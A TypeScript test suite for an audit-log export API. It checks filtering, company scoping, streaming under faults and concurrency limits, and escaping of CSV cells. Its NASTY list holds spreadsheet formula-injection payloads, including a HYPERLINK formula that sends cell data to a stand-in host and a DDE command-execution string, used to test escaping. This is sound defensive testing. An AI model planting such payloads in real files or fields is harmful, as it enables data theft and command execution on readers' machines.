import assert from 'node:assert/strict'
import { test } from 'node:test'
import { setTimeout as sleep } from 'node:timers/promises'
import type { KyselyPlugin } from 'kysely'
import { v7 as uuid } from 'uuid'
import type { Context } from '../../src/context.ts'
import { ACME, askFor, BERT, BORIS, GLOBEX, MANAGED_HOUSE, makeKey } from '../support/admin.ts'
import { readCsv } from '../support/csv.ts'
import { startFaulty } from '../support/faults.ts'
import { databases, newDatabase, startServer, type TestServer } from '../support/server.ts'

/** Names as somebody may type them, and what a spreadsheet would make of them. */
const NASTY = [
  '=1+1',
  '=HYPERLINK("http://x.test/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+31 6 1234',
  '-2+3',
  '@SUM(A1:A9)',
  'a;=1+1',
  'a;+1',
  '"=1+1"',
  '",=1+1,"',
  'x","=1+1',
  '＝1',
  'tab\t=1',
  'line\r\n=1',
  'Ünï ☃ 𝄞',
]

async function download(server: Pick<TestServer, 'url'>, key: string, query: string): Promise<Response> {
  return fetch(`${server.url}/api/v1/admin/audit/export?${query}`, { headers: { authorization: `Bearer ${key}` } })
}

// biome-ignore lint/suspicious/noExplicitAny: entries as the list tells them; a wrong guess fails the test.
type Entry = any

async function exported(server: Pick<TestServer, 'url'>, key: string, query = ''): Promise<Entry[]> {
  const response = await download(server, key, `format=ndjson${query}`)
  const text = await response.text()
  assert.equal(response.status, 200, text)
  const lines = text.split('\n')
  assert.equal(lines.pop(), '')
  const entries = lines.map((line) => JSON.parse(line))
  assert.deepEqual(entries.pop(), { end: true, entries: entries.length })
  return entries
}

async function listed(server: TestServer, key: string, query = ''): Promise<Entry[]> {
  const all: Entry[] = []
  for (let cursor = ''; ; ) {
    const page = await askFor(200, server, key, `GET /audit?limit=200${query}${cursor}`)
    all.push(...page.items)
    if (page.next_cursor === null) return all
    cursor = `&cursor=${page.next_cursor}`
  }
}

/** Entries straight into the table, a second apart, the last now. */
async function fill(ctx: Context, entries: number, data = '{}'): Promise<void> {
  const now = ctx.now()
  const rows = Array.from({ length: entries }, (_, nth) => ({
    id: uuid(),
    at: now - (entries - nth) * 1_000,
    act: nth % 1_000 === 7 ? 'role.deleted' : 'user.changed',
    actor_kind: 'key',
    actor_id: 'filler',
    behind_id: null,
    target_kind: 'user',
    target_id: nth % 2 === 0 ? BERT : BORIS,
    company_id: nth % 3 === 0 ? ACME : GLOBEX,
    application_id: null,
    request_id: `fill-${nth}`,
    data,
    personal_hash: null,
    source_hash: null,
    // As sealed: the job that seals has nothing to do with it.
    seq: 1_000_000 + nth,
    mac: '',
    key_id: '',
  }))
  await ctx.db.transaction(async (tx) => {
    for (let at = 0; at < rows.length; at += 500)
      await tx
        .insertInto('audit_entries')
        .values(rows.slice(at, at + 500))
        .execute()
  })
}

for (const database of databases) {
  test(`an export tells what the list tells, whatever it is limited to (${database})`, async () => {
    await using server = await startServer(database, { house: MANAGED_HOUSE })
    const operator = await makeKey(server)
    await fill(server.ctx, 7_100)
    const day = new Date(server.ctx.now() - 3_600_000).toISOString()
    const limits = [
      '',
      `&company=${ACME}`,
      `&target=${BERT}`,
      '&actor=filler&act=role.deleted',
      `&actor=filler&company=${GLOBEX}&target=${BORIS}&act=role.deleted`,
      `&act=user.changed&from=${day}`,
      `&target=${BORIS}&act=role.deleted&until=${day}`,
      '&act=company.created',
      '&act=role.created&actor=filler',
    ]
    for (const limit of limits) {
      const entries = await exported(server, operator, limit)
      const ids = entries.map(({ id }) => id)
      assert.deepEqual(new Set(ids).size, ids.length, limit)
      assert.deepEqual(
        entries.map(({ seq: _, ...entry }) => entry),
        (await listed(server, operator, limit)).map(({ seq: _, ...entry }) => entry),
        limit,
      )
    }
    // Told by the table itself: not the same mistake twice.
    const all = await server.ctx.db.read.selectFrom('audit_entries').selectAll().execute()
    const count = async (limit: string) => (await exported(server, operator, limit)).length
    assert.ok(all.length > 7_100)
    assert.equal(await count(''), all.length)
    assert.equal(await count('&actor=filler&act=role.deleted'), 8)
    assert.equal(
      await count(`&target=${BORIS}&act=role.deleted&until=${day}`),
      all.filter((row) => row.target_id === BORIS && row.act === 'role.deleted' && row.at < Date.parse(day)).length,
    )
    assert.equal(await count('&act=role.created&actor=filler'), 0)
    const times = (await exported(server, operator)).map(({ at }) => at)
    assert.deepEqual(times, times.toSorted().toReversed())
    for (const wrong of ['', 'format=xls', 'format=csv&limit=3', 'format=csv&act=x', 'format=csv&from=x'])
      assert.equal((await download(server, operator, wrong)).status, 400, wrong)
  })

  test(`a company exports what was done in it alone, without what is personal (${database})`, async () => {
    await using server = await startServer(database, { house: MANAGED_HOUSE })
    const operator = await makeKey(server)
    const acme = await makeKey(server, { power: { kind: 'company', companyId: ACME } })
    await askFor(200, server, acme, `PATCH /users/${BERT}`, { body: { first_name: 'Berta' } })
    const own = await exported(server, acme)
    assert.ok(own.length >= 2)
    for (const entry of own) assert.deepEqual([entry.company, entry.personal, entry.source], [ACME, null, null])
    const whole = await exported(server, operator, `&company=${ACME}`)
    assert.ok(whole.some(({ personal }) => personal?.after.first_name === 'Berta'))
    const csv = readCsv(await (await download(server, acme, 'format=csv')).text())
    assert.ok(!csv[0]?.includes('personal') && !csv[0]?.includes('source'))
    assert.doesNotMatch(JSON.stringify(csv), /Berta|127\.0\.0\.1/)
    for (const company of [GLOBEX, BERT])
      assert.equal((await download(server, acme, `format=csv&company=${company}`)).status, 404)
    const application = await makeKey(server, { power: { kind: 'application', applicationId: 'crm' } })
    assert.equal((await download(server, application, 'format=csv')).status, 403)
  })

  test(`no cell of the CSV is a formula, whatever people and companies are called, and no name is lost (${database})`, async () => {
    await using server = await startServer(database, { house: MANAGED_HOUSE })
    const operator = await makeKey(server)
    for (const [nth, name] of NASTY.entries()) {
      const headers = { 'x-request-id': `-${nth}` }
      await askFor(200, server, operator, `PATCH /users/${BERT}`, {
        body: { first_name: name, last_name: `${nth}${name}` },
        headers,
      })
      await askFor(201, server, operator, 'POST /companies', { body: { name }, headers })
      await askFor(201, server, operator, 'POST /applications/crm/roles', {
        body: { key: `-r${nth}`, name, permissions: [] },
        headers,
      })
      await askFor(201, server, operator, 'POST /applications', { body: { id: `-app.${nth}`, name }, headers })
      await askFor(201, server, operator, 'POST /api-keys', { body: { name }, headers })
      const { id } = await askFor(201, server, operator, `POST /companies/${ACME}/members/${BERT}/grants`, {
        body: { application: 'crm', permission: 'approve_invoice', reason: name },
        headers,
      })
      await askFor(200, server, operator, `DELETE /companies/${ACME}/grants/${id}`)
    }
    const response = await download(server, operator, 'format=csv')
    assert.equal(response.headers.get('content-type'), 'text/csv; charset=utf-8; header=present')
    assert.match(response.headers.get('content-disposition') ?? '', /^attachment; filename="audit\.csv"$/)
    const text = new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(await response.arrayBuffer())
    const [names = [], ...rows] = readCsv(text)
    assert.equal(
      names.join(),
      'id,at,act,actor_kind,actor_id,behind,target_kind,target_id,company,application,request_id,seq,data,source,personal',
    )
    const end = rows.pop()
    assert.deepEqual(end, ['end', `${rows.length} entries`, ...names.slice(2).map(() => '')])
    for (const row of rows) assert.equal(row.length, names.length)
    for (const row of [names, ...rows])
      for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r\n＝＋－＠]/, cell)
    // Where other characters divide fields, too.
    for (const delimiter of [';', '\t', '|'])
      for (const cell of text.split(/\r\n/).flatMap((line) => line.split(delimiter)))
        assert.doesNotMatch(cell, /^["']?\s*"?[=+@＝]/, cell)
    const column = (name: string) => rows.map((row) => row[names.indexOf(name)] ?? '')
    assert.ok(column('request_id').includes("'-3"))
    assert.ok(column('application').includes("'-app.3"))
    const entries = await exported(server, operator)
    assert.deepEqual(
      column('data').map((cell) => JSON.parse(cell)),
      entries.map(({ data }) => data),
    )
    assert.deepEqual(
      column('personal').map((cell) => (cell === '' ? null : JSON.parse(cell))),
      entries.map(({ personal }) => personal),
    )
    const told = JSON.stringify(entries)
    for (const name of NASTY) assert.ok(told.includes(JSON.stringify(name).slice(1, -1)), name)
  })

  test(`an export that fails on its way is cut off, and shows it; one that fails at once is refused (${database})`, async () => {
    const env = database === 'postgres' ? { LICENSE_DATABASE_URL: await newDatabase() } : {}
    await using server = await startFaulty(env, MANAGED_HOUSE)
    await fill(server.ctx, 3_000)
    const operator = await makeKey(server)
    let cut = 0
    let refused = 0
    for (let nth = 1; nth < 100; nth++) {
      server.faults.arm(nth, new Error('a fault'))
      const response = await download(server, operator, 'format=csv')
      let text = ''
      let isCut = false
      try {
        for await (const chunk of response.body?.pipeThrough(new TextDecoderStream()) ?? []) text += chunk
      } catch {
        isCut = true
      }
      const isWhole = /\r\nend,\d+ entries,/.test(text)
      const isHit = server.faults.disarm()
      if (response.status === 200) assert.equal(isCut, !isWhole, `fault ${nth}`)
      else assert.deepEqual([response.status, JSON.parse(text).code], [500, 'internal_error'])
      if (isCut) cut++
      else if (response.status === 500) refused++
      // Beyond the last of its statements.
      if (!isHit) break
    }
    assert.ok(cut >= 5 && refused >= 2, `${cut} cut, ${refused} refused`)
  })

  test(`an export goes at its reader's pace, for longer than any other answer may take; only a few go at once (${database})`, async () => {
    await using server = await startServer(database, { house: MANAGED_HOUSE })
    const operator = await makeKey(server)
    const entries = 15_000
    await fill(server.ctx, entries, JSON.stringify({ text: 'x'.repeat(1_000) }))
    let statements = 0
    const counter: KyselyPlugin = {
      transformQuery({ node }) {
        // Of the export; what the server does by itself goes on.
        if (JSON.stringify(node).includes('"filler"')) statements++
        return node
      },
      transformResult: async ({ result }) => result,
    }
    server.ctx.db = { ...server.ctx.db, read: server.ctx.db.read.withPlugin(counter) }
    const response = await download(server, operator, 'format=ndjson&actor=filler')
    const reader = response.body?.getReader()
    assert.ok(reader)
    let size = (await reader.read()).value?.length ?? 0
    let before = 0
    const asked = performance.now()
    do {
      before = statements
      await sleep(3_000)
      // Longer than the deadline of every other route (http/deadline.ts).
    } while (statements > before || performance.now() - asked < 10_000)
    assert.ok(before < entries / 500, 'nothing is read ahead of who does not take it')

    const others = await Promise.all([1, 2, 3].map(() => download(server, operator, 'format=csv')))
    const tooMany = await download(server, operator, 'format=csv')
    assert.equal(tooMany.status, 503)
    assert.ok(tooMany.headers.get('retry-after'))
    for (const other of others) await other.body?.cancel()
    for (let part = await reader.read(); !part.done; part = await reader.read()) size += part.value.length
    assert.ok(size > entries * 1_000)
    const again = await exported(server, operator, `&company=${ACME}`)
    assert.equal(again.length > entries / 3 - 1, true)
  })
}
